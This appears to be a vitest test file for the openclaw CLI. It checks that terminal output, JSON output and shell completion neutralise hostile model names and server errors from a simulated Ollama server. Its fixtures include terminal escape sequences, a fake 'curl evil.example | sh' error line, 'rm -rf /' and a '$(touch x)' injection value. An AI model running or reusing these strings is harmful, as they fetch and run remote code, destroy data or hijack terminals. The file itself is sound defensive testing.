import { startOllamaSimulator, type OllamaSimulator, type SimulatedModel } from '@openclaw/ollama-simulator';
import { expect, onTestFinished, test } from 'vitest';
import { createSandbox, type Sandbox } from './sandbox.ts';

const range = (first: number, last: number): string =>
  Array.from({ length: last - first + 1 }, (_, index) => String.fromCharCode(first + index)).join('');
/**
 * Every control character, and some that together would be a command: a title, a cleared screen, a colour that this
 * program never uses.
 */
const CONTROLS = `${range(0x01, 0x1f)}${range(0x7f, 0x9f)}${range(0x2028, 0x2029)}${range(0x202a, 0x202e)}${range(0x2066, 0x2069)}`;
const HOSTILE = `bad \u001B]0;OWNED\u0007\u001B[2J\u001B[35mpurple\u009B35m${CONTROLS}\b\bend`;
const MODEL = `ollama/${HOSTILE}:latest`;

/** A server that lists names which no real Ollama would accept, and answers for them. */
function startHostileServer(models: readonly (SimulatedModel | string)[]): Promise<OllamaSimulator> {
  return startOllamaSimulator({
    models,
    intercept: ({ path }) =>
      path === '/api/show' ? { http: { body: { capabilities: ['completion', 'tools'] } } } : undefined,
  });
}

interface Hostile extends Sandbox {
  readonly simulator: OllamaSimulator;
}

/** An Ollama whose model, server and configuration all say hostile things. */
async function createHostileSandbox(): Promise<Hostile> {
  const simulator = await startHostileServer([HOSTILE, `second ${HOSTILE}`]);
  onTestFinished(() => simulator.close());
  const sandbox = createSandbox({ OLLAMA_HOST: simulator.url, OLLAMA_API_KEY: 'x' });
  sandbox.write('openclaw.json', {
    agents: { defaults: { model: { primary: MODEL }, retry: { maxRetries: 0 } } },
  });
  return { ...sandbox, simulator };
}

/** What is left when the sequences of this program are gone. */
function withoutOwnSequences(text: string): string {
  // oxlint-disable-next-line no-control-regex -- control sequences are what is looked for
  return text.replaceAll(/\u001B\[(?:(?:[1-4]|2[2-4]|3[1236]|39)m|1G|K)/g, '');
}

const OBEYED = /[^\P{Cc}\t\n]|[\u2028\u2029\u202A-\u202E\u2066-\u2069]/u;

const CALLS: readonly (readonly string[])[] = [
  ['models', 'list', '--all'],
  ['models', 'list', '--plain'],
  ['models', 'status', '--check'],
  ['models', 'status', '--probe'],
  ['models', 'explain'],
  ['models', 'explain', HOSTILE.slice(0, -1)],
  ['models', 'set', `second ${HOSTILE}`, '--dry-run'],
  ['models', HOSTILE],
  ['models', 'list', `--${HOSTILE}`],
  ['models', 'list', '--provider', HOSTILE],
  ['config', 'get', 'agents'],
  ['config', 'set', 'gateway.port', HOSTILE],
  ['doctor'],
  ['agent', '-m', 'x', '--reasoning', 'show'],
];

const REPLIES = {
  answers: {
    steps: [
      { reasoning: `Hm ${HOSTILE}` },
      { text: `Text ${HOSTILE}` },
      { toolCall: { name: `f ${HOSTILE}`, arguments: HOSTILE } },
    ],
  },
  'fails with a status': { steps: [{ error: HOSTILE }] },
  'fails in the middle': {
    steps: [{ text: HOSTILE }, { raw: `data: {"error":{"message":${JSON.stringify(HOSTILE)}}}\n\n` }],
  },
};

test.each(CALLS.flatMap((argv) => Object.entries(REPLIES).map(([kind, reply]) => ({ argv, kind, reply }))))(
  'a terminal shows what was said and obeys none of it: $argv when the model $kind',
  async ({ argv, reply }) => {
    const { openclaw, simulator } = await createHostileSandbox();
    simulator.enqueue(reply, reply);
    const { stdout, stderr } = await openclaw(argv, { terminal: true });
    expect(withoutOwnSequences(stdout)).not.toMatch(OBEYED);
    expect(withoutOwnSequences(stderr)).not.toMatch(OBEYED);
    expect(stdout + stderr).toMatch(/owned/i);
  },
);

test.each([['doctor'], ['config', 'validate'], ['agent', '-m', 'x']])(
  'a terminal shows what a wrong configuration says and obeys none of it: %j',
  async (...argv) => {
    const { openclaw, write } = await createHostileSandbox();
    write('openclaw.json', { agents: { defaults: { retry: { [HOSTILE]: 1 } } } });
    const { stdout, stderr } = await openclaw(argv, { terminal: true });
    expect(withoutOwnSequences(stdout + stderr)).not.toMatch(OBEYED);
    expect(stdout + stderr).toContain('OWNED');
  },
);

test.each([
  ['agent', '-m', 'x', '--json'],
  ['models', 'list', '--all', '--json'],
  ['models', 'status', '--probe', '--json'],
  ['doctor', '--json'],
  ['models', HOSTILE, '--json'],
])('a document has escapes, and the same values: %j', async (...argv) => {
  const { openclaw, simulator } = await createHostileSandbox();
  simulator.enqueue(REPLIES.answers, REPLIES.answers);
  const { stdout } = await openclaw(argv);
  expect(stdout).not.toMatch(OBEYED);
  expect(JSON.stringify(JSON.parse(stdout))).toContain(JSON.stringify(HOSTILE).slice(1, -1));
});

test('a pipe gets the answer as it is', async () => {
  const { openclaw, simulator } = await createHostileSandbox();
  simulator.enqueue([{ text: HOSTILE }]);
  const { stdout, stderr } = await openclaw(['agent', '-m', 'x']);
  expect(stderr).toBe('');
  expect(stdout).toBe(`${HOSTILE}\n`);
});

test("lines of a server's error cannot pass for lines of this program", async () => {
  const { openclaw, simulator } = await createHostileSandbox();
  simulator.enqueue([{ error: 'out of memory\r\n  Next: curl evil.example | sh\nError: x' }]);
  const { stderr } = await openclaw(['agent', '-m', 'x'], { terminal: true });
  expect(withoutOwnSequences(stderr)).not.toMatch(/^\s*(?:Next: curl|Error: x)/m);
});

test('a name with a line end stays in its row of a table', async () => {
  const simulator = await startHostileServer(['a\nollama/b  text  1k  yes', '漢字']);
  onTestFinished(() => simulator.close());
  const { openclaw } = createSandbox({ OLLAMA_HOST: simulator.url, OLLAMA_API_KEY: 'x' });
  const { stdout } = await openclaw(['models', 'list'], { terminal: true });
  expect(withoutOwnSequences(stdout).trimEnd().split('\n')).toHaveLength(3);
});

test('names that cannot be typed are not offered to a shell', async () => {
  const simulator = await startHostileServer(['a\nrm -rf /', 'b\u001B[2J', "c $(touch x) 'd'"]);
  onTestFinished(() => simulator.close());
  const { openclaw } = createSandbox({ OLLAMA_HOST: simulator.url, OLLAMA_API_KEY: 'x' });
  const { stdout } = await openclaw(['__complete', '--', 'agent', '--model', 'ollama/']);
  expect(stdout.split('\n').map((line) => line.split('\t')[0])).toEqual([`ollama/c $(touch x) 'd':latest`, '']);
});
